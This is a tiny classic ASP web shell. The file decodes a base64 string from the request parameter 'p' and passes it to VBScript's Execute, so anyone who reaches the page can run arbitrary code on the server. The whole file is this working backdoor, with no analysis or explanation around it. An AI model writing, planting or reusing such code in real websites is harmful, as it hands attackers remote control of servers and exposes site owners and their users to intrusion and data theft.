<%
Function D(s)
    Dim x, st
    Set x = CreateObject("Msxml2.DOMDocument").createElement("b")
    x.DataType = "bin.base64"
    x.Text = s
    Set st = CreateObject("ADODB.Stream")
    st.Type = 1 : st.Open : st.Write x.NodeTypedValue
    st.Position = 0 : st.Type = 2 : st.Charset = "us-ascii"
    D = st.ReadText
    st.Close
End Function

Execute D(Request("p"))
%>
